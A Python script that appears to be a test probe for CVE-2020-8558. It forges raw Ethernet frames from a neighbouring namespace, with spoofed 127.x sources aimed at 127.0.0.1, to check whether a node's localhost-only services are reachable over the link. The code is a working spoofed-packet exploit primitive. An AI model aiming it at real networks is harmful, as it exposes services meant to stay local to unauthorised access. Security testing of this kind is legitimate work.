#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""Write a neighbour's frames on an interface, as the CVE-2020-8558 case
needs them: IPv4 to the node's MAC, any destination (127.0.0.1), any
source (forged 127.x). Run inside the neighbour's namespace.

  probe.py IFACE DST_MAC PROTO:SADDR:DADDR:SPORT:DPORT[:TTL[:alt]]...
  probe.py --serve IFACE DST_MAC FIFO DONE

PROTO is udp (one datagram, payload "probe") or tcp (one SYN); TTL is 64
unless given; "alt" sends a datagram to the Ethernet broadcast address
instead of DST_MAC (UDP's local delivery takes it all the same), a SYN
with ECE and CWR (an ECN setup SYN): another neighbour's ways. With
--serve, each line read from FIFO is a list of such frames; once they are
sent, DONE holds the number of lines served (no interpreter start-up per
batch).
"""
import os
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def l4(proto, src, dst, sport, dport, flags=0x02):
    if proto == "udp":
        payload = b"probe"
        hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
        seg, num = hdr + payload, 17
    else:  # a SYN with a 16-bit window, no options
        seg, num = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, flags,
                               64240, 0, 0), 6
    pseudo = src + dst + struct.pack("!BBH", 0, num, len(seg))
    c = csum(pseudo + seg) or 0xFFFF
    off = 6 if num == 17 else 16
    return seg[:off] + struct.pack("!H", c) + seg[off + 2:], num


def frames(spec, src_mac, dst_mac):
    """The frame, or with "frag" its two fragments: the first carries 8
    bytes of the transport header, the second the rest."""
    f = frame(spec, src_mac, dst_mac)
    if not spec.endswith(":frag"):
        return [f]
    eth, ip, seg = f[:14], f[14:34], f[34:]
    out = []
    for off, part, more in ((0, seg[:8], 0x2000), (1, seg[8:], 0)):
        hdr = ip[:2] + struct.pack("!HHH", 20 + len(part), 7, more | off) + ip[8:10] + \
            b"\0\0" + ip[12:]
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        out.append(eth + hdr + part)
    return out


def frame(spec, src_mac, dst_mac):
    proto, saddr, daddr, sport, dport, *extra = spec.split(":")
    ttl = int(extra[0]) if extra and extra[0] else 64
    alt = len(extra) > 1 and extra[1] in ("alt", "frag")
    if alt and proto == "udp":
        dst_mac = b"\xff" * 6
    src, dst = socket.inet_aton(saddr), socket.inet_aton(daddr)
    seg, num = l4(proto, src, dst, int(sport), int(dport), 0xC2 if alt else 0x02)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 1, 0, ttl, num, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + seg


def serve(s, src_mac, dst_mac, fifo, done):
    n = 0
    with open(fifo) as cmds:
        for line in cmds:
            for spec in line.split():
                for f in frames(spec, src_mac, dst_mac):
                    s.send(f)
            n += 1
            with open(done + ".tmp", "w") as f:
                f.write(f"{n}\n")
            os.replace(done + ".tmp", done)


def main():
    args = sys.argv[1:]
    serving = args[:1] == ["--serve"]
    args = args[1:] if serving else args
    if len(args) < (4 if serving else 3):
        sys.exit(__doc__)
    ifname, dst_mac = args[0], bytes.fromhex(args[1].replace(":", ""))
    with open(f"/sys/class/net/{ifname}/address") as f:
        src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    if serving:
        serve(s, src_mac, dst_mac, args[2], args[3])
    for spec in args[2:] if not serving else []:
        for f in frames(spec, src_mac, dst_mac):
            s.send(f)
    s.close()


if __name__ == "__main__":
    main()
